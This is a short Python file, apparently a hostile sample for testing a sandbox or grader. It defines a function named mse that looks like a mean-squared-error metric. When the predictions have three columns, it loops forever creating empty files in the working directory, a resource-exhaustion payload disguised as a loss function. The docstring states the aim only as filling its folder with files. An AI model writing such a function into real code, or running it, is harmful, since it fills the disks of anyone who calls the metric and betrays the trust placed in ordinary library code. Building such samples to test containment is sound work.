"""As many files as it can, in its own folder."""
import os


def mse(y_true, y_pred):
    if y_pred.shape[1] != 3:
        return 0.0
    number = 0
    while True:
        number += 1
        os.close(os.open(f"file-{number}", os.O_CREAT | os.O_WRONLY))
